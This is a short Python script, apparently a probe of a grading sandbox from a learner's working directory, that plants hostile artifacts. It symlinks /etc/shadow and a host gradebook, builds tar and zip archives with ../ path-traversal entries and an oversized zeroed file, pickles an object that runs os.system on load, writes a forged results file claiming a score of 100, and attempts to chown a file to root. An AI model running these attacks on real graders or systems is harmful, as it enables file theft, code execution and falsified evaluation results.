# %%
import os
import pickle
import tarfile
import zipfile

os.chdir("/home/learner")
os.symlink("/etc/shadow", "submission.py")
os.symlink("@host@/gradebook.sqlite", "results.json")
os.mkfifo("result.jsonl")
os.symlink("loop", "loop")
with tarfile.open("model.tar", "w") as archive:
    member = tarfile.TarInfo("../../../../@host@/gradebook.sqlite")
    member.size = 0
    archive.addfile(member)
with zipfile.ZipFile("model.keras", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("config.json", bytes(50_000_000))
    archive.writestr("../../escape.txt", "x")


class Trap:
    def __reduce__(self):
        return os.system, ("touch @host@/pickled",)


open("weights.pkl", "wb").write(pickle.dumps(Trap()))
os.makedirs("results", exist_ok=True)
open("results/results.json", "w").write('{"score": 100, "max_score": 1}')
attempt("make a file that belongs to another", os.chown, "weights.pkl", 0, 0)
print("planted", len(os.listdir(".")))
